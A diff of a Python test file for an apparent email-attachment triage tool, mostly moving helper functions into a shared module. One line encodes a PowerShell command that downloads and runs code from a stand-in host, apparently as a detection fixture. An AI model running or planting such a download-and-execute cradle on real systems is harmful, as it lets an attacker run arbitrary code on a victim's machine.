@@ -7,19 +7,12 @@ from __future__ import annotations
 import base64
 import random
 import time
-from pathlib import Path
 
 import pytest
 
 from mailvm.config import TriageConfig
-from mailvm.extract.spool import detect_type
 from mailvm.triage import Triage, script
-from mailvm.verdict import Artifact
-
-
-def art(path: Path) -> Artifact:
-    mime, desc = detect_type(path)
-    return Artifact("0" * 64, path.name, path.stat().st_size, mime, str(path), ("test",), desc)
+from triage_helpers import art, ids
 
 
 @pytest.fixture(scope="module")
@@ -31,10 +24,6 @@ def run(triage, tmp_path, name: str, text: str | bytes):
     p = tmp_path / name
     p.write_bytes(text.encode() if isinstance(text, str) else text)
     return triage.analyze(art(p))
-
-
-def ids(result) -> dict[str, int]:
-    return {f.id: f.severity for f in result.findings}
 
 
 ENC = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://e.test/a')".encode("utf-16-le")).decode()
